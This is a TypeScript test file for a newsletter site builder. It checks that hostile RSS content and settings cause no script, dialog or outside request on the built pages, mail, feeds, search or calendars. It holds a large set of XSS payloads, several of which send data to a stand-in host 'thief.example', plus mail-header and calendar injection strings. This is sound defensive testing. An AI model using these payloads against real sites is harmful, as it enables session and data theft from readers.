import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright'
import Parser from 'rss-parser'
import { assembleDigest } from '../../src/core/digest/assemble-digest.ts'
import { renderHtml } from '../../src/core/digest/render-html.ts'
import { formatIssue } from '../../src/core/issue/format-issue.ts'
import type { Item } from '../../src/core/item/item.ts'
import { formatYaml } from '../../src/core/text/front-matter.ts'
import { take } from '../../src/core/text/problem.ts'
import { readItems } from '../../src/io/item-files.ts'
import { readSiteSettings } from '../../src/io/site-settings-file.ts'
import { writeSource } from '../../src/io/source-files.ts'
import { makeIssue, makePick, makeSource } from '../builders.ts'
import { runScript } from '../cli/run-script.ts'
import { answerFeed, startLoopbackServer } from '../io/loopback-server.ts'
import { makeTemporaryFolder } from '../io/temporary-folder.ts'
import { launchBrowser } from './browser.ts'
import { buildSite } from './build-site.ts'
import { serveMeasured } from './serve-measured.ts'

const ROOT = path.resolve(import.meta.dirname, '../..')
const NOW = '2026-08-24T06:00:00Z'
/** What each attack does, where it succeeds: a name that it leaves behind, a dialog, a request. */
const DEED = "top.struck=1;alert('struck');fetch('https://thief.example/steal')"

/** Ways to have a page do what its reader did not ask for, each as HTML. */
const ATTACKS: readonly string[] = [
  `<script>${DEED}</script>`,
  `<SCRIPT SRC="https://thief.example/a.js"></SCRIPT>`,
  `<scr<script>ipt>${DEED}</scr</script>ipt>`,
  `<img src=x onerror="${DEED}">`,
  `<img src="https://thief.example/pixel.gif" width="1" height="1">`,
  `<img/src/onerror=${DEED.replaceAll(' ', '')}>`,
  `<svg onload="${DEED}"><animate onbegin="${DEED}" attributeName="x" dur="1s"></svg>`,
  `<svg><style><img src=x onerror="${DEED}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${DEED}&gt;">`,
  `<iframe srcdoc="&lt;script&gt;${DEED}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:${DEED}"></iframe>`,
  `<object data="https://thief.example/x.swf"></object><embed src="https://thief.example/x.swf">`,
  `<link rel="stylesheet" href="https://thief.example/a.css">`,
  `<style>@import url(https://thief.example/b.css); body { background: url(https://thief.example/c.png) }</style>`,
  `<p style="background:url(https://thief.example/d.png);position:fixed;inset:0">over all</p>`,
  `<base href="https://thief.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://thief.example/">`,
  `<form action="https://thief.example/" id=f><input name=password autofocus onfocus="${DEED}"></form>`,
  `<details open ontoggle="${DEED}"><summary>more</summary></details>`,
  `<video autoplay onplay="${DEED}" src="https://thief.example/v.mp4"><source onerror="${DEED}"></video>`,
  `<body onload="${DEED}"><marquee onstart="${DEED}">x</marquee>`,
  `<a href="javascript:${DEED}" id="click">follow me</a>`,
  `<a href="JaVa&#x0A;ScRiPt&colon;${DEED}">follow me</a>`,
  `<a href="data:text/html,<script>${DEED}</script>">follow me</a>`,
  `<a href="https://fine.example/" onmouseover="${DEED}" ping="https://thief.example/ping">a fine link</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>"></noscript>`,
  `<template><script>${DEED}</script></template><textarea><img src=x onerror="${DEED}"></textarea>`,
  `<![CDATA[<script>${DEED}</script>]]>`,
  `<!--><script>${DEED}</script>-->`,
  `"><img src=x onerror="${DEED}">`,
  `'-${DEED}-'`,
  `[follow me](javascript:${DEED}) ![](https://thief.example/e.png) <https://thief.example/> [x]: javascript:${DEED}`,
  `\`\`\`<img src=x onerror="${DEED}">\`\`\``,
  `&lt;script&gt;${DEED}&lt;/script&gt; and &amp;lt;img src=x onerror="${DEED}"&amp;gt;`,
  `{{constructor.constructor("${DEED}")()}} \${${DEED}} <%= 1 %>`,
]

const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** A feed with each attack in every field that text can stand in. */
function makeFeed(): string {
  const items = ATTACKS.map((attack, index) => {
    const text = escape(attack)
    const link = `https://hostile.example/${index}/?q=${encodeURIComponent(attack)}`
    return `<item><title>${text} ${index}</title><link>${escape(link)}</link><guid isPermaLink="false">${text}</guid>
      <pubDate>Thu, 20 Aug 2026 06:${String(index % 60).padStart(2, '0')}:00 GMT</pubDate><dc:creator>${text}</dc:creator>
      <category>${text}</category><enclosure url="https://hostile.example/a.mp3?${encodeURIComponent(attack)}" type="${text}" length="1"/>
      <description>${escape(`<p>Words before. ${attack} Words after.</p>`)}</description>
      <content:encoded>${escape(`<p>The lamp was lit, and the words go on for a while here. ${attack}</p><div>${attack}</div>`)}</content:encoded></item>`
  })
  return `<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
    <title>${escape(ATTACKS[0] ?? '')}</title><link>javascript:${escape(DEED)}</link>${items.join('\n')}</channel></rss>`
}

/** YAML is a superset of JSON. */
const frontMatter = (fields: object, body: string) => `---\n${JSON.stringify(fields)}\n---\n\n${body}\n`

/** Content of every other kind, with attacks in every field that words can stand in. */
function writeHostileContent(content: string): void {
  const attack = (at: number) => ATTACKS[at % ATTACKS.length] ?? ''
  const write = (file: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(content, file)), { recursive: true })
    fs.writeFileSync(path.join(content, file), text)
  }
  // An entity in code is refused by the check of mangled code.
  const texts = ATTACKS.filter((each) => !each.includes('&'))
  const all = texts.join(' ')
  const link = { title: attack(3), url: `https://hostile.example/?q=${encodeURIComponent(attack(3))}` }
  // Here HTML ends a build: what is left is all that is no HTML, and whatever can stand between backticks.
  const body = `Words.\n\n## ${'`'}${attack(3)}${'`'}\n\n${texts.map((each) => `~~~ "><img/src=x>\n${each}\n~~~`).join('\n\n')}\n
[follow me](javascript:alert(1)) [me](data:text/html,x) [and me](https://fine.example/ "${attack(3).replaceAll('"', "'")}")\n\n| \\<img src=x> |\n| - |\n| \\<script> |\n`
  const longForm = {
    ...{ title: attack(0), description: all, status: 'published', date: '2026-08-20', topics: ['hostile'] },
    ...{ authors: [{ id: 'hostile', org: attack(3), role: attack(9) }], versions: ['1.37'], sigs: ['sig-auth'] },
    ...{ note: all, age: all, projects: [attack(3)], learnMore: [link] },
    retold: { ...link, authors: [attack(3)], date: '2017-10-24', site: attack(9) },
  }
  const part = { series: { id: 'hostile', part: 1 }, closing: { words: attack(3), by: ['hostile'] } }
  write('posts/hostile.md', frontMatter({ ...longForm, ...part }, body))
  const company = { name: attack(3), industry: attack(0), location: attack(9), url: link.url }
  const figures = [{ value: attack(3), label: attack(0) }]
  const study = { ...longForm, company, figures, challenge: all, outcome: all, study: link.url }
  write('case-studies/hostile.md', frontMatter(study, `Words.\n\n> Quoted.\n>\n> — Ada ${'`'}${attack(3)}${'`'}`))
  write('series/hostile.yml', JSON.stringify({ title: attack(3), description: all, unit: attack(9), intro: all }))
  const person = { name: attack(3), org: attack(0), url: link.url, bio: all, asOf: attack(9) }
  write('authors/hostile.yml', JSON.stringify(person))
  write('topics/hostile.yml', JSON.stringify({ title: attack(3), description: all, words: ['lamp'] }))
  const meeting = { title: attack(3), when: attack(0), url: link.url, notes: link.url }
  const slack = { channel: attack(9), url: link.url }
  const group = { title: attack(3), description: all, slack, list: link.url, meetings: [meeting], asOf: '2026-08-01' }
  write('groups/sig-auth.yml', JSON.stringify(group))
  const listing = { source: 'organiser', read: '2026-08-01', url: link.url, start: '2026-09-01', end: '2026-09-02' }
  const place = {
    city: `${attack(3)};,\\nBEGIN:VEVENT`,
    country: attack(9),
    cfp: { url: link.url, closes: '2026-08-30' },
  }
  const event = { name: `${attack(3)}\\r\\nBEGIN:VEVENT`, kind: 'conference', region: 'europe' }
  write('events/hostile.yml', JSON.stringify({ ...event, listings: [{ ...listing, ...place }] }))
  const release = { name: attack(3), announcement: link.url, planned: { 'release-team': '2026-08-26' } }
  write('releases/1.37.yml', JSON.stringify(release))
}

/** Every HTML page of a folder, as the path under which it is served. */
function pagesOf(dist: string): string[] {
  return fs
    .readdirSync(dist, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.html'))
    .map((file) => `/${file.replaceAll(path.sep, '/').replace(/index\.html$/, '')}`)
}

const STRIKE = '"><img src=x onerror="top.struck=1">'
const STRIKE_OUT = `</title></script><script>${DEED}</script>`

/** Settings that are as hostile as settings may be: what cannot stand in a page, a feed or a mail is refused when they are read. */
const HOSTILE_SETTINGS = {
  name: `A "B", C; \\ & ${STRIKE}`,
  id: 'crowsnest',
  subject: `</script>${STRIKE} ]]>`,
  url: "https://crowsnest.example/o'clock&more",
  tagline: STRIKE_OUT,
  description: `Two lines\nwith --> ]]> ${STRIKE_OUT} ${ATTACKS[3] ?? ''} $& \u2028`,
  mail: { from: '"Bcc: thief@thief.example, all" <weekly@crowsnest.example>', address: `Pier 1\n${STRIKE_OUT}` },
  repository: "https://code.example/o'clock?a=1&b=2",
  texts: { name: ATTACKS.slice(0, 12).join(' '), reader: STRIKE, builder: STRIKE_OUT, standing: STRIKE },
  hoist: [{ flag: 'K', says: STRIKE }],
  sections: [
    { id: 'technical', title: `T ${STRIKE}`, flag: 'G', signal: STRIKE },
    { id: 'events-and-calls', title: STRIKE },
  ],
  hashtags: [STRIKE],
}

describe('a feed that attacks its readers, and settings that do', () => {
  const folder = makeTemporaryFolder()
  const content = path.join(folder.path, 'content')
  const dist = path.join(folder.path, 'dist')
  let items: readonly Item[]
  let mail: string
  let browser: Browser
  let site: Awaited<ReturnType<typeof serveMeasured>>

  before(async () => {
    fs.mkdirSync(path.join(content, 'issues'), { recursive: true })
    fs.writeFileSync(path.join(content, 'site.yml'), formatYaml(HOSTILE_SETTINGS))
    {
      await using server = await startLoopbackServer({ '/feed': answerFeed(makeFeed()) })
      writeSource(content, makeSource({ id: 'hostile', title: ATTACKS[3] ?? '', url: server.url('/feed') }))
      const state = path.join(folder.path, 'state')
      const ended = await runScript('ingest', [
        ...['--content', content, '--state', state, '--now', NOW, '--allow-network', '127.0.0.1/32'],
      ])
      assert.equal(ended.code, 0, ended.stderr)
    }
    writeHostileContent(content)
    items = readItems(content).entries.map(({ item }) => item)
    const issue = makeIssue({
      ...{ key: '2026-W34', weeks: ['2026-W34'], title: ATTACKS[0] ?? '', subject: ATTACKS[3] ?? '', preheader: '' },
      ...{ status: 'published', covers: { from: '2026-08-13T12:00:00Z', to: '2026-08-21T12:00:00Z' }, candidates: 1 },
      picks: items.map(({ id, title, url, excerpt, authors }) =>
        makePick({ id, title, url, authors, section: 'technical', source: title, blurb: excerpt }),
      ),
      body: ATTACKS.map((attack) => `${attack}\n`).join('\n'),
    })
    fs.writeFileSync(path.join(content, 'issues/2026-W34.md'), formatIssue(issue))
    mail = renderHtml(assembleDigest(issue, take(readSiteSettings(content)), undefined))
    const built = await buildSite(content, dist, { now: NOW })
    assert.equal(built.code, 0, built.stderr)
    browser = await launchBrowser()
    site = await serveMeasured(dist, path.join(ROOT, 'netlify.toml'))
  })
  after(async () => {
    await browser.close()
    await site.close()
    folder[Symbol.dispose]()
  })

  /** A tab that keeps what happens in it that should not: to open one takes longer than to show a page. */
  async function openTab() {
    const context = await browser.newContext()
    const page = await context.newPage()
    const strange: string[] = []
    page.on('dialog', (dialog) => {
      strange.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await context.route('**/*', (route) => {
      const url = route.request().url()
      if (url.startsWith(site.origin)) return route.continue()
      strange.push(`request: ${url}`)
      return route.abort()
    })
    return { page, strange, [Symbol.asyncDispose]: () => context.close() }
  }

  /** Opens a page, touches all that is on it, and says what happened that should not have. */
  async function visit(
    open: (page: Page) => Promise<unknown>,
    { page, strange }: Pick<Awaited<ReturnType<typeof openTab>>, 'page' | 'strange'>,
  ): Promise<string[]> {
    await open(page)
    const found = await page.evaluate(() => {
      for (const element of document.querySelectorAll('*')) {
        for (const event of ['mouseover', 'focus', 'toggle', 'error', 'load']) element.dispatchEvent(new Event(event))
      }
      const links = [...document.querySelectorAll('a')].map(({ href }) => href)
      const active =
        'script[src]:not([src^="/assets/"]),iframe,object,embed,base,meta[http-equiv=refresh],[onerror],[onload],[onfocus],[ping]'
      return {
        struck: 'struck' in window,
        links: links.filter((href) => href !== '' && !/^(https?|mailto):/.test(href)),
        active: [...document.querySelectorAll(active)].map((element) => element.outerHTML),
        thief: [...document.querySelectorAll('[src],[srcset],[style*="thief"]')].map((element) => element.outerHTML),
      }
    })
    if (found.struck) strange.push('a script has run')
    strange.push(...found.links, ...found.active, ...found.thief.filter((html) => html.includes('thief.example')))
    return strange.splice(0)
  }

  test('becomes items, one for each of its entries', () => {
    assert.equal(items.length, ATTACKS.length)
  })

  test('does nothing on any page of the built site: no script, no request, no dialog, no way to one', async () => {
    const pages = pagesOf(dist)
    const kinds = ['issues/2026-W34', 'issues/2026-W34/mail', 'posts/hostile', 'case-studies/hostile', 'series/hostile']
    const others = ['sources/hostile', 'authors/hostile', 'topics/hostile', 'sigs/sig-auth', '2026/08/20', 'events']
    for (const name of [...kinds, ...others]) assert.ok(pages.includes(`/${name}/`), `${name}: ${pages.join()}`)
    await using tab = await openTab()
    for (const name of pages) {
      assert.deepEqual(await visit((page) => page.goto(`${site.origin}${name}`), tab), [], name)
    }
    // What the last page began, and nobody has waited for.
    await tab.page.goto('about:blank')
    assert.deepEqual(tab.strange, [])
  })

  test('does nothing in the mail, where no policy of ours holds', async () => {
    await using tab = await openTab()
    assert.deepEqual(await visit((page) => page.setContent(mail), tab), [])
  })

  test('does nothing in our feeds, in a reader that trusts us and shows them as they are', async () => {
    const feeds = fs
      .readdirSync(dist, { recursive: true, encoding: 'utf8' })
      .filter((file) => /(?:^|rss|atom|headlines)[^/\\]*\.xml$/.test(file) && !file.includes('sitemap'))
    for (const file of ['rss.xml', 'atom.xml', 'headlines.xml', 'posts/rss.xml', 'authors/hostile/rss.xml']) {
      assert.ok(feeds.includes(path.normalize(file)), `${file}: ${feeds.join()}`)
    }
    const shown: string[] = []
    for (const file of feeds) {
      const parser = new Parser<unknown, { 'content:encoded'?: string; content?: string }>()
      const { items: entries } = await parser.parseString(fs.readFileSync(path.join(dist, file), 'utf8'))
      shown.push(...entries.map((entry) => entry['content:encoded'] ?? entry.content ?? ''))
    }
    for (const file of ['feed.json', 'headlines.json']) {
      const feed = JSON.parse(fs.readFileSync(path.join(dist, file), 'utf8')) as { items: { content_html?: string }[] }
      assert.ok(feed.items.length > 0, file)
      shown.push(...feed.items.map((item) => item.content_html ?? ''))
    }
    assert.ok(shown.length > ATTACKS.length)
    const html = [...new Set(shown)].join('\n')
    await using tab = await openTab()
    assert.deepEqual(await visit((page) => page.setContent(`<!doctype html><main>${html}</main>`), tab), [])
  })

  test('is told by the search in its own words, asked and answered', async () => {
    for (const words of [ATTACKS[3] ?? '', '"><script>alert(1)</script>', 'lamp']) {
      await using tab = await openTab()
      const strange = await visit(async (page) => {
        await page.goto(`${site.origin}/search/?q=${encodeURIComponent(words)}&kind=${encodeURIComponent(words)}`)
        await page.locator('[role=status]:not(:empty)').waitFor()
      }, tab)
      assert.deepEqual(strange, [], words)
    }
  })

  test('puts nothing into calendars and plain texts but words', () => {
    for (const file of ['calendar.ics', 'events.ics', 'releases.ics']) {
      const text = fs.readFileSync(path.join(dist, file), 'utf8')
      const lines = text.replaceAll('\r\n ', '').split('\r\n').slice(0, -1)
      const names = new Set(lines.map((line) => /^[A-Z-]+(?=[:;])/.exec(line)?.[0]))
      assert.ok(!names.has(undefined) && !text.replaceAll('\r\n', '').includes('\n'), file)
      assert.equal(
        lines.filter((line) => line.startsWith('BEGIN:')).length,
        lines.filter((line) => /^UID:/.test(line)).length + 1,
      )
    }
    for (const file of ['latest.txt', 'issues/2026-W34.txt']) {
      assert.doesNotMatch(
        fs.readFileSync(path.join(dist, file), 'utf8'),
        /(?!\n)[\p{Cc}\u202a-\u202e\u2066-\u2069]/u,
        file,
      )
    }
    const lists = ['sources.opml', 'sitemap.xml'].map((file) => fs.readFileSync(path.join(dist, file), 'utf8'))
    for (const list of lists) assert.doesNotMatch(list, /<script|<img|thief\.example\/a\.js"/i)
  })

  test('is really an attack: shown as it came, it strikes', async () => {
    await using tab = await openTab()
    const strange = await visit((page) => page.setContent(`<!doctype html><main>${ATTACKS[3] ?? ''}</main>`), tab)
    assert.ok(strange.includes('dialog: struck') && strange.includes('a script has run'), strange.join('\n'))
  })
})
